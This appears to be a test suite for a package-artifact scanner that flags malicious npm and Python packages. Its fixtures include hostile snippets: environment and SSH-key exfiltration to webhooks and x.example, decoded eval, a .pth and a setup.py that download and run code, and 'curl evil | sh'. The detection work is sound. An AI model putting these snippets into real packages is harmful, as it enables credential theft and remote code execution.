// Package artifacts read in memory: the tar and zip readers, bounded gzip, integrity, magic
// numbers, install scripts, code shape, and the capabilities and chains in JavaScript and Python.
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { gzipSync } from 'node:zlib';
import { binaryFormat } from '../../src/core/builtins/supplyChain/artifact/binaryMagic';
import { chainsIn } from '../../src/core/builtins/supplyChain/artifact/capabilities';
import { codeShape } from '../../src/core/builtins/supplyChain/artifact/codeShape';
import { gunzipBounded } from '../../src/core/builtins/supplyChain/artifact/decompress';
import { inspectArchive } from '../../src/core/builtins/supplyChain/artifact/inspectArchive';
import { filesRun, installHooks } from '../../src/core/builtins/supplyChain/artifact/installScripts';
import { sriOf, verifyHex, verifyNpmIntegrity } from '../../src/core/builtins/supplyChain/artifact/integrity';
import { scanJs } from '../../src/core/builtins/supplyChain/artifact/jsCapabilities';
import { pthExecutableLines, scanPython, tokenizePython } from '../../src/core/builtins/supplyChain/artifact/pyCapabilities';
import { readTar } from '../../src/core/builtins/supplyChain/artifact/tarReader';
import { readZip } from '../../src/core/builtins/supplyChain/artifact/zipReader';
import { fakeElf, gzipBomb, npmTarball, tar, tgz, zip } from '../fixtures/registry/archives';

const caps = (hits: { capability: string }[]) => [...new Set(hits.map((h) => h.capability))].sort();

describe('tar reader', () => {
  it('lists files, folders and links with their bytes; pax paths win over the header name', () => {
    const long = `package/${'d/'.repeat(80)}deep.js`;
    const t = readTar(
      tar([
        { path: 'package/', type: 'directory' },
        { path: 'package/index.js', content: 'module.exports = 1;\n' },
        { path: long, content: 'x', pax: true },
        { path: 'package/link', type: 'symlink', linkTarget: '../../etc/passwd' },
        { path: 'package/dev', type: 'char-device' },
      ]),
      100,
    );
    assert.equal(t.stopped, undefined);
    assert.deepEqual(
      t.entries.map((e) => [e.path, e.type]),
      [
        ['package/', 'directory'],
        ['package/index.js', 'file'],
        [long, 'file'],
        ['package/link', 'symlink'],
        ['package/dev', 'char-device'],
      ],
    );
    assert.equal(t.entries[1].data!.toString(), 'module.exports = 1;\n');
    assert.equal(t.entries[3].linkTarget, '../../etc/passwd');
  });

  it('stops at a bad checksum, a body past the end, and the entry cap', () => {
    const good = tar([{ path: 'a', content: 'x' }]);
    const bad = Buffer.from(good);
    bad[0] = 'b'.charCodeAt(0);
    assert.equal(readTar(bad, 10).stopped?.reason, 'corrupt');
    assert.equal(readTar(good.subarray(0, 512), 10).entries.length, 0, 'a header with no body is not an entry');
    assert.equal(readTar(good.subarray(0, 512), 10).stopped?.reason, 'truncated');
    const many = tar(Array.from({ length: 5 }, (_, i) => ({ path: `f${i}`, content: 'x' })));
    assert.deepEqual(readTar(many, 3).stopped?.reason, 'too-many-entries');
  });
});

describe('zip reader', () => {
  it('reads stored and deflated entries and Unix symlinks', () => {
    const z = readZip(
      zip([
        { path: 'pkg/__init__.py', content: 'print(1)\n' },
        { path: 'pkg/data.txt', content: 'stored', store: true },
        { path: 'evil', content: '/etc/passwd', unixMode: 0o120777 },
      ]),
      100,
      1e6,
    );
    assert.equal(z.stopped, undefined);
    assert.deepEqual(
      z.entries.map((e) => [e.path, e.type, e.data?.toString() ?? e.linkTarget]),
      [
        ['pkg/__init__.py', 'file', 'print(1)\n'],
        ['pkg/data.txt', 'file', 'stored'],
        ['evil', 'symlink', '/etc/passwd'],
      ],
    );
  });

  it('stops a zip bomb at the limit', () => {
    const z = readZip(zip([{ path: 'big', content: Buffer.alloc(2_000_000) }]), 10, 1_000_000);
    assert.equal(z.stopped?.reason, 'bomb');
  });
});

describe('bounded gzip, integrity, magic numbers', () => {
  it('refuses output past the limit as a bomb, and garbage as corrupt', () => {
    assert.deepEqual(gunzipBounded(gzipSync('hello'), 100), { ok: true, bytes: Buffer.from('hello') });
    const bomb = gunzipBounded(gzipBomb(4), 1024 * 1024);
    assert.equal(bomb.ok, false);
    assert.equal(!bomb.ok && bomb.reason, 'bomb');
    const junk = gunzipBounded(Buffer.from('not gzip'), 100);
    assert.equal(!junk.ok && junk.reason, 'corrupt');
  });

  it('verifies SRI sha512 (strongest wins), falls back to the SHA-1 shasum, reports a mismatch', () => {
    const bytes = Buffer.from('tarball');
    assert.equal(verifyNpmIntegrity(bytes, sriOf(bytes), undefined).verified, true);
    assert.equal(verifyNpmIntegrity(bytes, `sha1-AAAA ${sriOf(bytes)}`, undefined).algorithm, 'sha512');
    assert.equal(verifyNpmIntegrity(Buffer.from('other'), sriOf(bytes), undefined).verified, false);
    assert.equal(verifyNpmIntegrity(bytes, undefined, '3a0e2c63d0b0b1a9e3a2a3c1a41d4e64f3f4f6f1').verified, false);
    assert.equal(verifyNpmIntegrity(bytes, undefined, undefined).verified, null);
    assert.equal(verifyHex(bytes, 'sha256', 'ab').verified, false);
  });

  it('knows ELF, PE, Mach-O and universal binaries whatever the name, and not Java classes or text', () => {
    assert.equal(binaryFormat(fakeElf()), 'elf');
    const pe = Buffer.alloc(256);
    pe.write('MZ', 0, 'latin1');
    pe.writeUInt32LE(0x80, 0x3c);
    pe.write('PE\0\0', 0x80, 'latin1');
    assert.equal(binaryFormat(pe), 'pe');
    assert.equal(binaryFormat(Buffer.from('MZ is how this readme starts, and it goes on for a while to pass sixty-four bytes.')), undefined);
    assert.equal(binaryFormat(Buffer.from([0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1])), 'mach-o');
    assert.equal(binaryFormat(Buffer.from([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 2])), 'mach-o-universal');
    assert.equal(binaryFormat(Buffer.from([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 52])), undefined, 'a Java class file');
  });
});

describe('install scripts', () => {
  it('lists the hooks, the files they run, and the implicit node-gyp rebuild', () => {
    const files = new Set(['install.js', 'bin/setup', 'binding.gyp', 'scripts/post.sh']);
    assert.deepEqual(filesRun('node install.js && sh ./scripts/post.sh --quiet', files), ['install.js', 'scripts/post.sh']);
    assert.deepEqual(filesRun('node install', files), ['install.js']);
    const hooks = installHooks({ postinstall: './bin/setup', prepare: 'tsc', test: 'jest' }, files, undefined);
    assert.deepEqual(
      hooks.map((h) => [h.hook, h.runs, !!h.implicit, !!h.minor]),
      [
        ['postinstall', ['bin/setup'], false, false],
        ['prepare', [], false, true],
        ['install', ['binding.gyp'], true, false],
      ],
    );
    assert.equal(installHooks({ install: 'node-gyp-build' }, files, undefined).filter((h) => h.implicit).length, 0, 'an explicit install script replaces it');
    assert.equal(installHooks({}, files, false).length, 0, 'gypfile: false turns it off');
  });
});

describe('code shape', () => {
  it('tells obfuscated code from minified and from plain code', () => {
    const obf = Array.from({ length: 12 }, (_, i) => `var _0x${(0xa1b2 + i).toString(16)}=1;`).join('');
    assert.equal(codeShape(obf).obfuscated, true);
    const blob = `const p = "${Buffer.from(Array.from({ length: 400 }, (_, i) => (i * 7919) % 256)).toString('base64')}";`;
    assert.equal(codeShape(blob).encodedBlobs, 1);
    const minified = 'var a=1;'.repeat(400);
    assert.deepEqual([codeShape(minified).minified, codeShape(minified).obfuscated], [true, false]);
    assert.equal(codeShape('const x = 1;\nmodule.exports = x;\n').obfuscated, false);
  });
});

describe('JavaScript capabilities (acorn)', () => {
  it('finds network, env collection, host details, process, decoded eval, credential paths and webhooks by parsing', () => {
    const src = [
      "const https = require('node:https');",
      "const cp = require('child_process');",
      "const os = require('os');",
      'const data = JSON.stringify(process.env);',
      'const host = os.hostname();',
      "const key = fs.readFileSync(path.join(os.homedir(), '.ssh/id_rsa'));",
      "eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString());",
      "fetch('https://discord.com/api/webhooks/1/abc', { method: 'POST', body: Buffer.from(data).toString('base64') });",
    ].join('\n');
    const { hits, parsed } = scanJs('index.js', src);
    assert.equal(parsed, true);
    assert.deepEqual(caps(hits), ['credential-read', 'decoded-exec', 'encode', 'env-collection', 'exfil-endpoint', 'host-info', 'network', 'process']);
    assert.equal(hits.find((h) => h.capability === 'env-collection')!.line, 4);
    assert.match(hits.find((h) => h.capability === 'decoded-exec')!.excerpt, /^eval\(Buffer\.from/);
  });

  it('does not count words in comments, one env variable, or an environment handed to a child', () => {
    const src = [
      '// require("child_process") and eval(atob(x)) are only mentioned here',
      'const home = process.env.HOME;',
      "spawn('git', ['status'], { env: process.env });",
      "const s = 'see https://example.com/docs';",
    ].join('\n');
    assert.deepEqual(caps(scanJs('a.js', src).hits), []);
  });

  it('falls back to a line scan when the code does not parse, and says so', () => {
    const r = scanJs('broken.js', "const x = require('child_process'\nJSON.stringify(process.env) <<<");
    assert.equal(r.parsed, false);
    assert.deepEqual(caps(r.hits), ['env-collection', 'process']);
  });

  it('forms chains in one file: collect → encode → send, fetch → execute, decoded execution', () => {
    const src = "const d = JSON.stringify(process.env);\nconst e = btoa(d);\nfetch('https://x.example', { body: e });\n";
    const chains = chainsIn('a.js', scanJs('a.js', src).hits, false);
    assert.deepEqual(
      chains.map((c) => [c.kind, c.capabilities, c.lines]),
      [['exfiltration', ['env-collection', 'encode', 'network'], [1, 2, 3]]],
    );
    const dl = "const https = require('https');\nconst { execSync } = require('child_process');\n";
    assert.deepEqual(chainsIn('b.js', scanJs('b.js', dl).hits, false), [], 'network + process is common in a library');
    assert.deepEqual(
      chainsIn('b.js', scanJs('b.js', dl).hits, true).map((c) => c.kind),
      ['download-execute'],
      'at install time it is a chain',
    );
  });
});

describe('Python capabilities (tokenizer)', () => {
  it('tokenizes strings, comments and names, counting lines through triple quotes', () => {
    const t = tokenizePython('x = """a\nb"""  # os.system("no")\nrb\'\\x00\' ; y\n');
    assert.deepEqual(
      t.map((k) => [k.kind, k.value, k.line]),
      [
        ['name', 'x', 1],
        ['op', '=', 1],
        ['string', 'a\nb', 1],
        ['string', '\\x00', 3],
        ['op', ';', 3],
        ['name', 'y', 3],
      ],
    );
  });

  it('finds the setup.py calls GuardDog looks for, and not those in comments or docstrings', () => {
    const src = [
      'import base64, os, subprocess',
      'from urllib.request import urlopen',
      '"""Docs: os.system("rm -rf") is not called."""',
      '# exec(base64.b64decode(x))',
      "exec(base64.b64decode('cHJpbnQoMSk='))",
      'data = dict(os.environ)',
      "urlopen('https://webhook.site/abc', data=str(data).encode())",
      "subprocess.Popen(['sh', '-c', 'id'])",
      'setup(name="x", cmdclass={"install": Evil})',
    ].join('\n');
    const r = scanPython('setup.py', src);
    assert.equal(r.overridesInstall, true);
    assert.deepEqual(caps(r.hits), ['decoded-exec', 'encode', 'env-collection', 'exfil-endpoint', 'network', 'process']);
    assert.equal(r.hits.find((h) => h.capability === 'decoded-exec')!.line, 5);
    assert.equal(scanPython('a.py', 'home = os.environ.get("HOME")\nv = os.environ["X"]\n').hits.length, 0);
  });

  it('a .pth line that starts with import runs at interpreter start', () => {
    assert.deepEqual(pthExecutableLines('/opt/lib\nimport os; os.system("id")\n'), [2]);
  });
});

describe('inspectArchive', () => {
  it('a postinstall that runs a bundled ELF: hook, binary, runsBinary', () => {
    const bytes = npmTarball({
      'package.json': JSON.stringify({ name: 'x', version: '1.0.1', scripts: { postinstall: 'node setup.js' } }),
      'setup.js': "const { execFileSync } = require('child_process');\nexecFileSync(require('path').join(__dirname, 'lib/helper'));\n",
      'lib/helper': fakeElf(),
      'index.js': 'module.exports = 1;\n',
    });
    const r = inspectArchive('npm-tarball', bytes);
    assert.deepEqual(r.binaries, [{ file: 'lib/helper', format: 'elf' }]);
    assert.deepEqual(
      r.installHooks.map((h) => [h.hook, h.runs, h.runsBinary]),
      [['postinstall', ['setup.js'], true]],
    );
    assert.ok(r.hazards.some((h) => h.kind === 'native-binary' && h.file === 'lib/helper'));
  });

  it('hostile entries: traversal, absolute path, symlink out, device', () => {
    const bytes = tgz([
      { path: 'package/package.json', content: '{"name":"x","version":"1.0.0"}' },
      { path: 'package/../../.bashrc', content: 'curl evil | sh' },
      { path: '/etc/cron.d/x', content: '* * * * * root id' },
      { path: 'package/cfg', type: 'symlink', linkTarget: '../../../home/u/.ssh/id_rsa' },
      { path: 'package/ok', type: 'symlink', linkTarget: 'index.js' },
      { path: 'package/tty', type: 'char-device' },
    ]);
    const kinds = inspectArchive('npm-tarball', bytes).hazards.map((h) => `${h.kind}:${h.severity}`);
    assert.deepEqual(kinds.sort(), ['absolute-path:critical', 'device:high', 'path-traversal:critical', 'symlink:critical', 'symlink:medium']);
  });

  it('a gzip bomb is one finding and nothing else is read', () => {
    const r = inspectArchive('npm-tarball', gzipBomb(3), { maxUnpackedBytes: 1024 * 1024, maxFiles: 10, maxScannedBytes: 1e6, maxFileBytes: 1e6 });
    assert.deepEqual(
      r.hazards.map((h) => h.kind),
      ['decompression-bomb'],
    );
    assert.equal(r.files, 0);
  });

  it('an install chain (env → send) in the file a preinstall runs is an install-time chain', () => {
    const bytes = npmTarball({
      'package.json': JSON.stringify({ name: 'x', version: '1.0.0', scripts: { preinstall: 'node pre.js' } }),
      'pre.js': "const https = require('https');\nconst body = JSON.stringify(process.env);\nhttps.request({ host: 'x.example', method: 'POST' }).end(body);\n",
    });
    const r = inspectArchive('npm-tarball', bytes);
    assert.deepEqual(
      r.chains.map((c) => [c.kind, c.file, c.installTime]),
      [['exfiltration', 'pre.js', true]],
    );
  });

  it('a healthy package: no hazard, no hook, no chain', () => {
    const bytes = npmTarball({
      'package.json': JSON.stringify({ name: 'ok', version: '1.0.0', main: 'index.js' }),
      'index.js': 'module.exports = (a, b) => a + b;\n',
    });
    const r = inspectArchive('npm-tarball', bytes);
    assert.deepEqual([r.hazards, r.installHooks, r.chains], [[], [], []]);
    assert.equal(r.files, 2);
  });

  it('a wheel with an executing .pth and an sdist whose setup.py downloads and runs', () => {
    const wheel = zip([
      { path: 'evil.pth', content: "import os, urllib.request; exec(urllib.request.urlopen('https://x.example/p').read())\n" },
      { path: 'pkg/__init__.py', content: '' },
    ]);
    const w = inspectArchive('wheel', wheel);
    assert.ok(w.hazards.some((h) => h.kind === 'pth-exec' && h.file === 'evil.pth'));
    assert.ok(w.chains.some((c) => c.kind === 'download-execute' && c.installTime));

    const sdist = tgz([
      {
        path: 'x-1.0/setup.py',
        content: "import subprocess, urllib.request\nurllib.request.urlretrieve('https://x.example/a.sh', 'a.sh')\nsubprocess.call(['sh', 'a.sh'])\n",
      },
    ]);
    const s = inspectArchive('sdist-tar', sdist);
    assert.deepEqual(
      s.chains.map((c) => [c.kind, c.file, c.installTime]),
      [['download-execute', 'setup.py', true]],
    );
    assert.equal(s.installHooks[0].hook, 'setup.py');
  });
});
